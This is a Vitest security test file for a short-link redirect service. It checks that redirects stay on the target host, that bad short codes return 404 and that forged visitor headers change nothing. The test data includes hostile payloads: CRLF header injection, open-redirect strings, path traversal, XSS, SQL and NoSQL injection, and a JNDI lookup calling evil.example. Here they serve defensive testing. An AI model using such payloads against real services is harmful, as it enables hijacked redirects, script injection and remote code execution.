import { request as httpRequest, type IncomingHttpHeaders } from 'node:http'
import type { AddressInfo } from 'node:net'
import { linkContent, SIMULATED_DEVICES } from '@unilink/shared'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { WAYS } from '#support/visit-ways.ts'
import { MARKUP_ATTACKS } from '#support/samples/markup-attacks.ts'
import { seedLink, type SeededLink } from '#support/seed-link.ts'
import { createTestApp, type TestApp } from '#support/test-app.ts'

const UA = SIMULATED_DEVICES['xiaomi-browser'].ua
interface Raw {
  status: number
  headers: IncomingHttpHeaders
  text: string
}

describe.each(WAYS)('%s', (_way, emulator) => {
  let server: TestApp
  let page: SeededLink
  let redirect: SeededLink

  beforeAll(async () => {
    server = await createTestApp({ config: { emulator } })
    page = await seedLink(server.world)
    redirect = await seedLink(server.world, {
      content: linkContent.parse({
        linkName: '网页',
        scene: '推广',
        targets: { h5: 'https://m.example.com/{id}?c={channel}' },
        fallbacks: ['h5'],
        params: [{ name: 'id', type: 'string' }],
      }),
    })
  })
  afterAll(() => server.close())

  /** A request whose path and headers go out as they are. */
  function rawGet(path: string, headers: Record<string, string> = {}): Promise<Raw> {
    const { port } = server.app.server.address() as AddressInfo
    return new Promise((resolve, reject) => {
      const asked = httpRequest(
        { port, host: '127.0.0.1', path, headers: { 'user-agent': UA, ...headers } },
        (answer) => {
          const chunks: Buffer[] = []
          answer.on('data', (chunk: Buffer) => chunks.push(chunk))
          answer.on('end', () => {
            const text = Buffer.concat(chunks).toString()
            resolve({ status: answer.statusCode ?? 0, headers: answer.headers, text })
          })
        },
      )
      asked.on('error', reject)
      asked.end()
    })
  }

  describe('a redirect', () => {
    it('goes to the host of the link’s target, whatever the visitor adds', async () => {
      const values = [
        ...MARKUP_ATTACKS,
        '\r\nSet-Cookie: a=b\r\n\r\n<script>',
        '//evil.example',
        '@evil.example',
        '\\evil.example',
      ]
      for (const value of values.filter((text) => !/\p{Surrogate}/u.test(text))) {
        const query = `id=${encodeURIComponent(value)}&ch=${encodeURIComponent(value)}`
        const { status, headers } = await rawGet(`/s/${redirect.code}?${query}`)
        expect(status, value).toBe(302)
        expect(new URL(headers.location ?? '')).toMatchObject({
          protocol: 'https:',
          host: 'm.example.com',
          username: '',
        })
        expect(headers.location).toMatch(/^[\u0021-\u007e]+$/)
        expect(headers['set-cookie']?.filter((cookie) => !cookie.startsWith('uv='))).toEqual([])
      }
    })

    it.each([
      '%0d%0aLocation:%20https://evil.example',
      '%E5%98%8A%E5%98%8Dx',
      '%00',
      '%ff%fe',
      '%',
      '%zz',
      '&&==',
      'id[]=x&id[$ne]=y',
    ])('stays one header with the query %s', async (query) => {
      const { status, headers } = await rawGet(`/s/${redirect.code}?id=${query}`)
      expect(status).toBe(302)
      expect(headers.location).toMatch(/^https:\/\/m\.example\.com\/[\u0021-\u007e]*$/)
    })
  })

  describe('the path', () => {
    it.each([
      '..%2f..%2fmain',
      '%0d%0aSet-Cookie:%20a=b',
      '<script>alert(1)<%2fscript>',
      '%2e%2e',
      'abc;jsessionid=1',
      'x'.repeat(120),
      '%E4%B8%AD',
      "'%20OR%201=1--",
    ])('with the code %s leads nowhere and says nothing of it', async (code) => {
      const { status, headers, text } = await rawGet(`/s/${code}`)
      expect(status).toBe(404)
      expect(headers['set-cookie']).toBeUndefined()
      expect(text).not.toMatch(/alert\(1\)|jsessionid|Set-Cookie/)
    })
  })

  describe('headers of a visitor', () => {
    const forged = {
      'x-forwarded-host': 'evil.example',
      'x-forwarded-proto': 'javascript',
      forwarded: 'host=evil.example',
    }
    const withoutVisit = (text: string) => text.replaceAll(/data-v="[^"]*"|v=[\w.-]+/g, '')

    it.each(['page', 'redirect'] as const)('do not change the %s', async (kind) => {
      const path = `/s/${(kind === 'page' ? page : redirect).code}`
      const [plain, told] = [await rawGet(path), await rawGet(path, forged)]
      expect(withoutVisit(told.text)).toBe(withoutVisit(plain.text))
      expect(told.headers.location).toBe(plain.headers.location)
      expect(plain.status).toBe(kind === 'page' ? 200 : 302)
    })

    it('are stored as what they say or not at all, and never answered with', async () => {
      for (const value of [
        '<script>alert(1)</script>',
        '"><img src=x onerror=alert(1)>',
        '${jndi:ldap://evil.example}',
        "' OR 1=1--",
      ]) {
        const { status, text } = await rawGet(`/s/${page.code}`, {
          'user-agent': `${UA} ${value}`,
          'accept-language': value,
          referer: `https://evil.example/${value}`,
          cookie: `uv=${value}`,
          'sec-ch-ua-model': value,
        })
        expect(status).toBe(200)
        expect(text).not.toContain(value)
      }
    })
  })
})
